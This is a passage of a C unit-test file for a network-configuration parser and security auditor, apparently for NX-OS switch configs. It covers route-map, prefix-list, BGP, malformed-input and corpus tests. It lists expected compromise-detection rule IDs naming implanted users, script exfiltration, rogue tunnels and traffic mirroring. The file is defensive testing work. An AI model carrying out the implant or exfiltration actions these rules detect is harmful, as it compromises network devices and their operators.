    for (size_t i = 0; i < sizeof(hard_rows) / sizeof(hard_rows[0]); i++) {
        const line_row *r = &hard_rows[i];
        print_message("row %zu: %s line %u %s=%s\n", i, tw_fact_kind_name(r->kind), r->line,
                      r->field, r->value);
        assert_true(has(&p, r->kind, r->line, r->field, r->value, r->field_line));
    }
    for (size_t i = 0; i < sizeof(hard_absent) / sizeof(hard_absent[0]); i++) {
        const tw_fact *f = fact_at(&p, hard_absent[i].kind, hard_absent[i].line);
        print_message("absent %zu: %s\n", i, hard_absent[i].field);
        assert_non_null(f);
        assert_null(tw_fact_get(f, hard_absent[i].field));
    }
    for (size_t i = 0; i < sizeof(hard_counts) / sizeof(hard_counts[0]); i++) {
        print_message("count %zu: %s\n", i, tw_fact_kind_name(hard_counts[i].kind));
        assert_int_equal(count(&p, hard_counts[i].kind), hard_counts[i].n);
    }
    for (size_t i = 0; i < p.fs.n; i++) {
        if (p.fs.v[i].kind == TW_FACT_ROUTING_PEER)
            assert_int_equal(nfield(&p.fs.v[i], "auth"), 1);
    }
    assert_true(tw_str_eq_c(fact_at(&p, TW_FACT_SERVICE, 8)->evidence, "banner motd"));
    for (size_t i = 0; i < sizeof(hidden) / sizeof(hidden[0]); i++)
        assert_false(leaks(&p, hidden[i]));
    done(&p);
}

/* ---- routing policy and interface filters ---------------------------------- */

/* Route-map entries, prefix-list entries and interface access groups; the
 * rows below name the lines of this text. */
static const char policy_cfg[] = "ip prefix-list PL seq 5 permit 10.0.0.0/8 le 24\n"      /* 1 */
                                 "ip prefix-list PL seq 10 deny 0.0.0.0/0\n"              /* 2 */
                                 "ipv6 prefix-list P6 seq 5 permit 2001:db8::/32 eq 48\n" /* 3 */
                                 "ip prefix-list PL description uplinks\n"                /* 4 */
                                 "route-map RM permit 10\n"                               /* 5 */
                                 "  description export\n"                                 /* 6 */
                                 "  match ip address prefix-list PL\n"                    /* 7 */
                                 "  set local-preference 200\n"                           /* 8 */
                                 "  no set metric 5\n"                                    /* 9 */
                                 "route-map RM deny 20\n"                                 /* 10 */
                                 "route-map RM pbr-statistics\n"                          /* 11 */
                                 "route-map BARE\n"                                       /* 12 */
                                 "interface Ethernet1/1\n"                                /* 13 */
                                 "  ip access-group IN4 in\n"                             /* 14 */
                                 "  ip port access-group P4 out\n"                        /* 15 */
                                 "  ipv6 traffic-filter IN6 out\n"                        /* 16 */
                                 "  ipv6 port traffic-filter P6 in\n"                     /* 17 */
                                 "  no ip access-group OLD in\n"                          /* 18 */
                                 "  ip access-group NODIR\n"                              /* 19 */
                                 "  no ipv6 traffic-filter OLD6 out\n";                   /* 20 */

static const line_row policy_rows[] = {
    {TW_FACT_PREFIX_LIST, 1, "name", "PL", 0},
    {TW_FACT_PREFIX_LIST, 1, "family", "ipv4", 0},
    {TW_FACT_PREFIX_LIST, 1, "seq", "5", 0},
    {TW_FACT_PREFIX_LIST, 1, "action", "permit", 0},
    {TW_FACT_PREFIX_LIST, 1, "prefix", "10.0.0.0/8", 0},
    {TW_FACT_PREFIX_LIST, 1, "le", "24", 0},
    {TW_FACT_PREFIX_LIST, 2, "action", "deny", 0},
    {TW_FACT_PREFIX_LIST, 2, "prefix", "any", 0},
    {TW_FACT_PREFIX_LIST, 3, "family", "ipv6", 0},
    {TW_FACT_PREFIX_LIST, 3, "ge", "48", 0},
    {TW_FACT_PREFIX_LIST, 3, "le", "48", 0},
    {TW_FACT_ROUTE_MAP, 5, "name", "RM", 0},
    {TW_FACT_ROUTE_MAP, 5, "action", "permit", 0},
    {TW_FACT_ROUTE_MAP, 5, "seq", "10", 0},
    {TW_FACT_ROUTE_MAP, 5, "match", "ip address prefix-list PL", 7},
    {TW_FACT_ROUTE_MAP, 5, "set", "local-preference 200", 8},
    {TW_FACT_ROUTE_MAP, 10, "action", "deny", 0},
    {TW_FACT_ROUTE_MAP, 10, "seq", "20", 0},
    {TW_FACT_ROUTE_MAP, 12, "action", "permit", 0},
    {TW_FACT_ROUTE_MAP, 12, "seq", "10", 0},
    {TW_FACT_INTERFACE, 13, "acl_in", "IN4", 14},
    {TW_FACT_INTERFACE, 13, "acl_out", "P4", 15},
    {TW_FACT_INTERFACE, 13, "acl_out", "IN6", 16},
    {TW_FACT_INTERFACE, 13, "acl_in", "P6", 17},
};

/* How many fields of a name the fact at a line has: the "no" forms, the
 * statement without a direction and "no set" give none. */
static const struct {
    tw_fact_kind kind;
    uint32_t line;
    const char *field;
    size_t n;
} policy_fields[] = {
    {TW_FACT_INTERFACE, 13, "acl_in", 2}, {TW_FACT_INTERFACE, 13, "acl_out", 2},
    {TW_FACT_ROUTE_MAP, 5, "set", 1},     {TW_FACT_ROUTE_MAP, 5, "match", 1},
    {TW_FACT_ROUTE_MAP, 10, "match", 0},  {TW_FACT_PREFIX_LIST, 1, "ge", 0},
};

static void test_policy(void **state)
{
    parsed p;

    (void)state;
    parse(&p, policy_cfg);
    assert_int_equal(p.rc, TW_OK);
    assert_int_equal(p.diags.n, 0);
    assert_int_equal(count(&p, TW_FACT_PREFIX_LIST), 3);
    assert_int_equal(count(&p, TW_FACT_ROUTE_MAP), 3);
    for (size_t i = 0; i < sizeof(policy_rows) / sizeof(policy_rows[0]); i++) {
        const line_row *r = &policy_rows[i];
        print_message("row %zu: %s line %u %s=%s\n", i, tw_fact_kind_name(r->kind), r->line,
                      r->field, r->value);
        assert_true(has(&p, r->kind, r->line, r->field, r->value, r->field_line));
    }
    for (size_t i = 0; i < sizeof(policy_fields) / sizeof(policy_fields[0]); i++) {
        const tw_fact *f = fact_at(&p, policy_fields[i].kind, policy_fields[i].line);
        print_message("fields %zu: %s\n", i, policy_fields[i].field);
        assert_non_null(f);
        assert_int_equal(nfield(f, policy_fields[i].field), policy_fields[i].n);
    }
    done(&p);
}

/* Statements that give no fact of a kind, with a warning when malformed. */
static const struct {
    const char *cfg;
    tw_fact_kind kind;
    size_t warnings;
} policy_none[] = {
    {"ip prefix-list B seq 5 permit 10.0.0.0\n", TW_FACT_PREFIX_LIST, 1},
    {"ip prefix-list B seq 5 permit 10.0.0.0/33\n", TW_FACT_PREFIX_LIST, 1},
    {"ip prefix-list B seq 5 permit 10.0.0.0/8 le 24 le 25\n", TW_FACT_PREFIX_LIST, 1},
    {"ip prefix-list B seq x permit 10.0.0.0/8\n", TW_FACT_PREFIX_LIST, 1},
    {"ipv6 prefix-list B seq 5 permit 2001:db8::/32 le 129\n", TW_FACT_PREFIX_LIST, 1},
    {"no ip prefix-list PL seq 5 permit 10.0.0.0/8\n", TW_FACT_PREFIX_LIST, 0},
    {"ip prefix-list PL description x\n", TW_FACT_PREFIX_LIST, 0},
    {"route-map R permit x\n  set metric 1\n", TW_FACT_ROUTE_MAP, 1},
    {"route-map R permit 10 20\n", TW_FACT_ROUTE_MAP, 1},
    {"no route-map R permit 10\n  set metric 1\n", TW_FACT_ROUTE_MAP, 0},
    {"route-map R pbr-statistics\n", TW_FACT_ROUTE_MAP, 0},
};

static void test_policy_none(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof(policy_none) / sizeof(policy_none[0]); i++) {
        parsed p;
        parse(&p, policy_none[i].cfg);
        print_message("row %zu: %s", i, policy_none[i].cfg);
        assert_int_equal(p.rc, TW_OK);
        assert_int_equal(count(&p, policy_none[i].kind), 0);
        assert_int_equal(p.diags.n, policy_none[i].warnings);
        for (size_t k = 0; k < p.diags.n; k++)
            assert_int_equal(p.diags.v[k].line, 1);
        for (size_t k = 0; k < p.diags.n; k++)
            assert_string_equal(p.diags.v[k].file, "t.cfg");
        done(&p);
    }
}

/* BGP that makes no sense: templates that inherit each other, a neighbour
 * without an address, AS numbers that are not numbers, headers without
 * names.  The parse ends, and every neighbour with an address is a fact
 * with one auth field. */
static const char bgp_odd_cfg[] = "router bgp 1\n"                                       /* 1 */
                                  "  template peer A\n"                                  /* 2 */
                                  "    inherit peer B\n"                                 /* 3 */
                                  "  template peer B\n"                                  /* 4 */
                                  "    inherit peer A\n"                                 /* 5 */
                                  "  neighbor 10.0.0.1\n"                                /* 6 */
                                  "    inherit peer A\n"                                 /* 7 */
                                  "  neighbor bogus\n"                                   /* 8 */
                                  "    password 3 Xs3cr3tX\n"                            /* 9 */
                                  "  neighbor 10.0.0.2 remote-as route-map RM\n"         /* 10 */
                                  "  neighbor 10.0.0.3 remote-as 99999999999999999999\n" /* 11 */
                                  "  neighbor 10.0.0.4 remote-as 70000.1\n"              /* 12 */
                                  "  neighbor 10.0.0.0/24 remote-as 65000\n"             /* 13 */
                                  "  template peer\n"                                    /* 14 */
                                  "  neighbor\n"                                         /* 15 */
                                  "  vrf\n"                                              /* 16 */
                                  "    neighbor 10.0.0.5\n" /* 17: under no VRF */
                                  "router bgp\n"            /* 18 */
                                  "  neighbor 10.0.0.6\n"   /* 19 */
                                  "neighbor 10.0.0.7\n";    /* 20: outside router bgp */

static void test_bgp_odd(void **state)
{
    static const line_row rows[] = {
        {TW_FACT_ROUTING_PEER, 6, "auth", "false", 0},
        {TW_FACT_ROUTING_PEER, 6, "group", "A", 7},
        {TW_FACT_ROUTING_PEER, 13, "address", "10.0.0.0/24", 0},
        {TW_FACT_ROUTING_PEER, 19, "address", "10.0.0.6", 0},
    };
    parsed p;

    (void)state;
    parse(&p, bgp_odd_cfg);
    assert_int_equal(p.rc, TW_OK);
    assert_int_equal(count(&p, TW_FACT_ROUTING_PEER), 6);
    for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++)
        assert_true(
            has(&p, rows[i].kind, rows[i].line, rows[i].field, rows[i].value, rows[i].field_line));
    for (size_t i = 0; i < p.fs.n; i++) {
        const tw_fact *f = &p.fs.v[i];
        if (f->kind != TW_FACT_ROUTING_PEER)
            continue;
        assert_int_equal(nfield(f, "auth"), 1);
        assert_int_equal(nfield(f, "remote_as"), f->line == 13);
    }
    assert_false(leaks(&p, "Xs3cr3tX"));
    done(&p);
}

/* ---- hostile input --------------------------------------------------------- */

static void test_hostile(void **state)
{
    static const struct {
        const char *cfg;
        size_t len;
        uint32_t host_line; /* line of "hostname h", 0: none */
    } rows[] = {
        {"hostname h\r\nfeature telnet\r\n", 29, 1},
        {"\xEF\xBB\xBFhostname h\n", 14, 1},
        {"feature\0 telnet\nhostname h", 26, 2},
        {"banner motd #\nhostname x\n", 25, 0},
        {"interface\n  ip address\n  tunnel destination\nhostname h\n", 55, 4},
        {"ip access-list\n  10 permit tcp\nhostname h\n", 42, 3},
        {"monitor session 99999999999999999999999\nhostname h\n", 51, 2},
        {"", 0, 0},
    };

    (void)state;
    for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
        parsed p;
        parse_n(&p, rows[i].cfg, rows[i].len);
        print_message("row %zu\n", i);
        assert_int_equal(p.rc, TW_OK);
        assert_int_equal(count(&p, TW_FACT_HOSTNAME), rows[i].host_line != 0);
        assert_int_equal(has(&p, TW_FACT_HOSTNAME, rows[i].host_line, "name", "h", 0),
                         rows[i].host_line != 0);
        done(&p);
    }
}

static void test_long_line(void **state)
{
    size_t n = TW_LIMIT_LINE_LEN + 64;
    char *cfg = malloc(n + 32);
    parsed p;

    (void)state;
    assert_non_null(cfg);
    memset(cfg, 'a', n);
    memcpy(cfg + n, "\nhostname h\n", 13);
    parse_n(&p, cfg, n + 12);
    assert_int_equal(p.rc, TW_OK);
    assert_int_equal(p.diags.n, 1);
    assert_int_equal(p.diags.v[0].line, 1);
    assert_true(has(&p, TW_FACT_HOSTNAME, 2, "name", "h", 0));
    done(&p);
    free(cfg);
}

/* ---- the built-in rules on the fixtures ------------------------------------ */

typedef struct {
    const char *rule;
    uint32_t line;
} finding_row;

static const finding_row bad_findings[] = {
    {"TW-AA-IMPLANT-USER", 15},   {"TW-AA-IOC-AAA", 17},           {"TW-AA-IOC-AAA", 20},
    {"TW-AA-IOC-ACL", 25},        {"TW-AA-HTTP-PORT-PATTERN", 27}, {"TW-AA-SNMP-RW", 30},
    {"TW-AA-IOC-SNMP", 31},       {"TW-AA-IOC-ROUTE", 34},         {"TW-AA-IOC-TUNNEL", 41},
    {"TW-AA-TUNNEL-PUBLIC", 41},  {"TW-AA-IOC-MIRROR", 58},        {"TW-AA-MIRROR-PUBLIC", 58},
    {"TW-AA-SCRIPT-LOGGING", 64}, {"TW-AA-SCRIPT-EXFIL", 65},      {"TW-AA-SCRIPT-EXFIL", 67},
    {"TW-AA-IOC-LOGGING", 71},    {"TW-HARD-VTY-TELNET", 9},       {"TW-AA-IOC-CONFIG", 65},
    {"TW-AA-IOC-CONFIG", 67},
};

static bool found(const audited *a, const char *rule, uint32_t line)
{
    for (size_t i = 0; i < a->fl.n; i++) {
        if (strcmp(a->fl.v[i].rule, rule) == 0 && a->fl.v[i].line == line)
            return true;
    }
    return false;
}

static size_t compromise(const audited *a)
{
    return cfg_findings(&a->fl, TW_CAT_COMPROMISE, NULL, CFG_ANY_LINE);
}

static void test_rules_bad(void **state)
{
    audited a;

    (void)state;
    audit(&a, BAD);
    for (size_t i = 0; i < sizeof(bad_findings) / sizeof(bad_findings[0]); i++) {
        print_message("row %zu: %s at %u\n", i, bad_findings[i].rule, bad_findings[i].line);
        assert_true(found(&a, bad_findings[i].rule, bad_findings[i].line));
    }
    unaudit(&a);
}

/* The strength check findings of cfg, audited from a temporary file, at
 * line (CFG_ANY_LINE: anywhere). */
static size_t strength_off(const char *cfg, uint32_t line)
{
    char path[] = "/tmp/tw-nxos-XXXXXX";
    int fd = mkstemp(path);
    audited a;
    size_t n;

    assert_true(fd >= 0);
    assert_int_equal(write(fd, cfg, strlen(cfg)), (ssize_t)strlen(cfg));
    close(fd);
    audit(&a, path);
    n = cfg_findings(&a.fl, TW_CAT_HARDENING, "TW-HARD-PASSWORD-STRENGTH-OFF", line);
    unaudit(&a);
    unlink(path);
    return n;
}

/* "no password strength-check" is reported at its line; the default (on)
 * and "password strength-check" are not. */
static void test_rules_strength_check(void **state)
{
    (void)state;
    assert_int_equal(strength_off("switchname s1\nno password strength-check\n", 2), 1);
    assert_int_equal(strength_off("switchname s1\npassword strength-check\n", CFG_ANY_LINE), 0);
    assert_int_equal(strength_off("switchname s1\nfeature ssh\n", CFG_ANY_LINE), 0);
}

static void test_rules_clean(void **state)
{
    audited a;

    (void)state;
    audit(&a, CLEAN);
    assert_int_equal(compromise(&a), 0);
    assert_true(found(&a, "TW-HARD-KEY-TYPE", 21));
    assert_false(found(&a, "TW-HARD-NO-AAA-ACCOUNTING", 0));
    assert_false(found(&a, "TW-HARD-NO-LOGGING-HOST", 0));
    assert_false(found(&a, "TW-HARD-VTY-NO-ACL", 67));
    assert_false(found(&a, "TW-HARD-SSH-V1", 0));
    unaudit(&a);
}

/* ---- the public corpus ----------------------------------------------------- */

#define CONFIGS TW_CORPUS_DIR "/configs"

/* The NX-OS files of the corpus, found by content ("feature", "switchname",
 * "vrf context", "!RANCID-CONTENT-TYPE: cisco-nx", an NX-OS "version
 * N.N(N)" line), and the facts each gives (regenerate when the parser
 * changes on purpose: the failing row prints the new numbers). */
static const struct {
    const char *path;
    size_t facts, interfaces, secrets, addresses, peers;
} corpus_rows[] = {
    {"batfish-example/snmp_communities_clients/nxos", 6, 0, 0, 1, 0},
    {"batfish-unit/nxos/nxos_interface", 11, 3, 0, 5, 0},
    {"batfish-unit/nxos/nxos_misc", 4, 0, 0, 0, 0},
    {"batfish-unit/nxos/nxos_ntp", 5, 0, 0, 1, 0},
    {"batfish-unit/nxos/nxos_ssh", 3, 0, 0, 0, 0},
    {"batfish-unit/nxos/nxos_system", 3, 0, 0, 0, 0},
    {"ciscoconfparse2/sample_01.nxos", 300, 82, 51, 105, 31},
};

static bool looks_nxos(const char *data, size_t len)
{
    tw_str rest = tw_str_make(data, len), line;

    while (tw_str_line(&rest, &line)) {
        if (tw_str_starts_with(line, TW_STR("feature ")) ||
            tw_str_starts_with(line, TW_STR("switchname ")) ||
            tw_str_starts_with(line, TW_STR("vrf context ")) ||
            tw_str_starts_with(line, TW_STR("!RANCID-CONTENT-TYPE: cisco-nx")))
            return true;
    }
    return false;
}

static int by_name(const struct dirent **a, const struct dirent **b)
{
    return strcmp((*a)->d_name, (*b)->d_name);
}

/* Counts the files under dir that look like NX-OS, parsing each. */
static void walk(const char *dir, size_t *nx, size_t *errors)
{
    struct dirent **names = NULL;
    int n = scandir(dir, &names, NULL, by_name);

    for (int i = 0; i < n; i++) {
        char path[4096];
        struct stat st;
        snprintf(path, sizeof(path), "%s/%s", dir, names[i]->d_name);
        if (names[i]->d_name[0] != '.' && stat(path, &st) == 0 && S_ISDIR(st.st_mode)) {
            walk(path, nx, errors);
        } else if (names[i]->d_name[0] != '.' && S_ISREG(st.st_mode)) {
            parsed p;
            parse_file(&p, path);
            *nx += looks_nxos(p.text, p.len);
            *errors += p.rc != TW_OK || p.diags.errors != 0;
            done(&p);
        }
        free(names[i]);
    }
    free(names);
}

static void test_corpus(void **state)
{
    struct stat st;
    size_t nx = 0, errors = 0;

    (void)state;
    if (stat(CONFIGS, &st) != 0) {
        skip();
    }
    walk(CONFIGS, &nx, &errors);
    assert_int_equal(errors, 0);
    assert_int_equal(nx, 7);
    for (size_t i = 0; i < sizeof(corpus_rows) / sizeof(corpus_rows[0]); i++) {
        char path[4096];
        parsed p;
        snprintf(path, sizeof(path), "%s/%s", CONFIGS, corpus_rows[i].path);
        parse_file(&p, path);
        print_message("%s: facts %zu interfaces %zu secrets %zu addresses %zu peers %zu\n",
                      corpus_rows[i].path, p.fs.n, count(&p, TW_FACT_INTERFACE),
                      count(&p, TW_FACT_SECRET), count(&p, TW_FACT_ADDRESS),
                      count(&p, TW_FACT_ROUTING_PEER));
        assert_true(looks_nxos(p.text, p.len));
        assert_int_equal(p.diags.n, 0);
        assert_int_equal(p.fs.n, corpus_rows[i].facts);
        assert_int_equal(count(&p, TW_FACT_INTERFACE), corpus_rows[i].interfaces);
        assert_int_equal(count(&p, TW_FACT_SECRET), corpus_rows[i].secrets);
        assert_int_equal(count(&p, TW_FACT_ADDRESS), corpus_rows[i].addresses);
        assert_int_equal(count(&p, TW_FACT_ROUTING_PEER), corpus_rows[i].peers);
        done(&p);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_fixture_facts), cmocka_unit_test(test_fixture_counts),
        cmocka_unit_test(test_secrets),       cmocka_unit_test(test_inline),
        cmocka_unit_test(test_none),          cmocka_unit_test(test_hostile),
        cmocka_unit_test(test_long_line),     cmocka_unit_test(test_rules_bad),
        cmocka_unit_test(test_hardening),     cmocka_unit_test(test_bgp_odd),
        cmocka_unit_test(test_rules_clean),   cmocka_unit_test(test_rules_strength_check),
        cmocka_unit_test(test_policy),        cmocka_unit_test(test_policy_none),
        cmocka_unit_test(test_corpus),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
